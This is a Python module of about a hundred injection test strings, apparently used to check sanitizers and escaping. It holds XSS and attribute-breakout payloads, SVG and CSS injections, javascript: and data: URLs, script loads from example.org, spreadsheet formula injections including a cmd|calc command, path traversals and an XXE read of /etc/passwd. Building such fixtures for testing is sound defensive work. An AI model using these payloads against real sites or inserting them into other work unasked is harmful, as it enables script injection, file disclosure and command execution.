# SPDX-License-Identifier: MIT
"""A hundred texts that try to be more than text: written by us after the known ways in, each with its kind."""

from __future__ import annotations

_RUN = "window.pwned.push(1)"

HTML = (
    f"<script>{_RUN}</script>", f"<SCRIPT SRC=//example.org/x.js></SCRIPT>", f"</script><script>{_RUN}</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>", f"<img/src='x'/onerror={_RUN}>", f"<body onload={_RUN}>", f"<video><source onerror={_RUN}></video>",
    f"<details open ontoggle={_RUN}>x</details>", f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}></select>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>", "<iframe src=//example.org></iframe>", "<object data=//example.org/x.swf></object>",
    "<embed src=//example.org/x>", "<base href=//example.org/>", "<meta http-equiv=refresh content='0;url=//example.org'>", "<link rel=stylesheet href=//example.org/x.css>",
    "<form action=//example.org><button>x</button></form>", "<textarea>", "<title>x</title>", "<plaintext>", "<noscript><p title='</noscript><img src=x>'>",
    "<template><script>x</script></template>", "<!-- ", "--><b>x</b>", "<![CDATA[<b>x</b>]]>", "<?php echo 1 ?>", "&lt;script&gt;", "&#60;script&#62;", "&amp;lt;b&amp;gt;",
)
ATTRIBUTES = (
    f"\" onmouseover=\"{_RUN}", f"' onmouseover='{_RUN}", f"\"><img src=x onerror={_RUN}>", f"'><svg onload={_RUN}>", f"` onclick=`{_RUN}`", "x\" style=\"position:fixed",
    f"\"autofocus onfocus={_RUN} x=\"", "\" hidden x=\"", "\" id=\"resources", "\\\" onload=\\\"x", "\"/><hr/>", "x\ty\nonclick=z", f"&quot; onload={_RUN}", "&#34;><b>", "' or '1'='1",
)
SVG = (
    f"<svg onload={_RUN}></svg>", f"</svg><script>{_RUN}</script>", f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x'/></svg>", "<svg><image href=//example.org/x.png /></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>", f"<math><mtext></mtext><style><img src=x onerror={_RUN}></style></math>", "</text></svg><h1>x</h1>",
    "<tspan>x</tspan>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)
STYLES = (
    f"</style><script>{_RUN}</script>", "<style>*{display:none}</style>", "<p style=background:url(//example.org/x)>", "}*{color:red", "*/}body{display:none}/*",
    "@import '//example.org/x.css';", "expression(alert(1))", "\\3c script\\3e",
)
ADDRESSES = (
    f"<a href=javascript:{_RUN}>x</a>", f"javascript:{_RUN}", f"java\tscript:{_RUN}", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//example.org/x",
    "https://example.org/?q=<b>", "file:///etc/passwd", "blob:x", "mailto:x@example.org?subject=<b>", "http://example.org#\"><b>",
)
FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://example.org\",\"x\")", "\t=1+1", "=WEBSERVICE(\"http://example.org\")")
PATHS = ("../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\windows\\win.ini", "con", "out/../../x", "%2e%2e%2fx", "a\0b")
CHARACTERS = (
    "\x00\x01\x02\x07\x08\x0b\x1b[31m", "\x7f\x80\x9f", "\u202eevil\u202c", "\u2066isolated\u2069", "\u200f\u061cright", "\ufeffmark", "\ud800 half", "\uffff\ufffe", "\u2028\u2029 lines",
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 4, "\U0001f600\U000e0001\U000e007f", "x" * 3000,
)
PAYLOADS = (*HTML, *ATTRIBUTES, *SVG, *STYLES, *ADDRESSES, *FORMULAS, *PATHS, *CHARACTERS)
